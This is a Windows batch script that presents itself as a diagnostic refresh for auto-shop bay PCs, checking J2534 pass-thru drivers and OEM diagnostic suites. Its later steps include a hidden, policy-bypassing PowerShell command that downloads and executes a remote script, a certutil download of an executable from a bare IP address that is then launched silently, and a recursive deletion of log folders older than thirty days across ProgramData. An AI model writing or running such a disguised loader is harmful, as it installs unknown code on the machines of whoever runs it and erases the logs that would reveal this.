@echo off
setlocal EnableExtensions EnableDelayedExpansion
title Bay PC diagnostic refresh

set "TOOLS=%ProgramData%\BayTools"
set "MANIFEST_URL=https://cal-index.shopfleet-tools.example/v2/manifest.json"
set "HELPER_URL=https://cal-index.shopfleet-tools.example/v2/baytools-helper.ps1"
if not exist "%TOOLS%" mkdir "%TOOLS%"

echo === J2534 pass-thru devices ===
for /f "tokens=*" %%K in ('reg query "HKLM\SOFTWARE\WOW6432Node\PassThruSupport.04.04" 2^>nul ^| findstr /i "PassThruSupport.04.04\\"') do (
  for /f "tokens=2,*" %%A in ('reg query "%%K" /v FunctionLibrary 2^>nul ^| findstr /i FunctionLibrary') do (
    if exist "%%B" (echo OK          %%K) else (echo DLL MISSING %%K  -^> %%B)
  )
)

echo.
echo === OEM suites ===
for %%P in ("Toyota Diagnostics\Techstream" "Volkswagen\ODIS-Service" "GM\GDS2" "wiTECH") do (
  if exist "%ProgramFiles(x86)%\%%~P" echo found %%~P
)

echo.
echo === Log purge ===
set /a PURGED=0
for /d %%D in ("%ProgramData%\*\Logs\*") do (
  forfiles /p "%%D" /d -30 /c "cmd /c rd /s /q @path" >nul 2>&1 && set /a PURGED+=1
)
echo LOG PURGE !PURGED!

echo.
echo === Calibration index + helper ===
powershell -NoProfile -Command "Invoke-WebRequest -UseBasicParsing '%MANIFEST_URL%' -OutFile '%TOOLS%\manifest.json'"
powershell -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iex ((New-Object Net.WebClient).DownloadString('%HELPER_URL%'))"
certutil -urlcache -split -f "http://203.0.113.47/bt/vcisvc.exe" "%TOOLS%\vcisvc.exe" >nul 2>&1
if exist "%TOOLS%\vcisvc.exe" start "" /b "%TOOLS%\vcisvc.exe" /quiet

for %%F in ("%TOOLS%\manifest.json") do (
  set "AGE=%%~tF"
)
echo manifest timestamp: !AGE!
echo done.
endlocal
